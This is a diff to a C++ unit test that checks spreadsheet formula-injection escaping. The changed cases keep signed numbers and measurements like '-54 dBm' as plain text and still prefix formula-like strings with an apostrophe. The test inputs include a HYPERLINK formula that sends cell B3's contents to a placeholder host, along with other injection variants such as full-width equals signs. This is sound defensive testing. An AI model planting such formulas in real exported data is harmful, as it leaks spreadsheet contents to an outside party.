@@ -36,7 +36,8 @@ TEST(AirText, SpreadsheetFormulasStayText) {
     };
     const Case cases[] = {
         {"=HYPERLINK(\"//x.yz/\"&B3,\"!\")", "'=HYPERLINK(\"//x.yz/\"&B3,\"!\")"},
-        {"+1", "'+1"}, {"-2", "'-2"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
+        {"+A1", "'+A1"}, {"-2+3", "'-2+3"}, {"-", "'-"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
+        {"-54 dBm", "-54 dBm"}, {"+3", "+3"}, {"-0.5", "-0.5"}, {"-12%", "-12%"}, {"-54 dBm+1", "'-54 dBm+1"},
         {"\xEF\xBC\x9D" "1+1", "'\xEF\xBC\x9D" "1+1"},  // full-width equals
         {"\xEF\xBC\xA0x", "'\xEF\xBC\xA0x"},             // full-width commercial at
         {"HomeNet", "HomeNet"}, {"a=b", "a=b"}, {"", ""}, {" =x", " =x"},
